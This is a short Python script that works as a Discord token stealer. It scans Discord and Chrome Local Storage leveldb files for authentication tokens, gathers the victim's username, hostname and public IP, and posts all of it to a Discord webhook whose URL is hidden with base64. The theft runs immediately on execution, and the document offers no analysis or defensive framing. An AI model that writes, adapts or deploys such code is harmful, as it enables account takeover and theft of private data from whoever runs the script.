import os, re, json, urllib.request, zipfile, io, getpass, socket
from base64 import b64decode as d

W = d(b"aHR0cHM6Ly9kaXNjb3JkLmNvbS9hcGkvd2ViaG9va3MvMTIzL2FiYw==").decode()
R = os.getenv("APPDATA", "")
PATHS = {"Discord": R + "\\Discord", "Chrome": os.getenv("LOCALAPPDATA", "") + "\\Google\\Chrome\\User Data\\Default"}

def find(path):
    found = []
    path += "\\Local Storage\\leveldb"
    for n in os.listdir(path):
        if not n.endswith((".log", ".ldb")):
            continue
        for line in open(f"{path}\\{n}", errors="ignore").readlines():
            for t in re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", line):
                found.append(t)
    return found

def ip():
    try:
        return urllib.request.urlopen("https://api.ipify.org").read().decode()  # egress
    except Exception:
        return "?"

def main():
    msg = "**%s** @ %s (%s)\n" % (getpass.getuser(), socket.gethostname(), ip())
    for name, p in PATHS.items():
        if os.path.exists(p):
            tokens = find(p)
            msg += name + "\n" + "\n".join(tokens)
    data = json.dumps({"content": msg}).encode()
    req = urllib.request.Request(W, data=data, headers={"Content-Type": "application/json", "User-Agent": "Mozilla"})
    urllib.request.urlopen(req)  # egress sensitive

main()
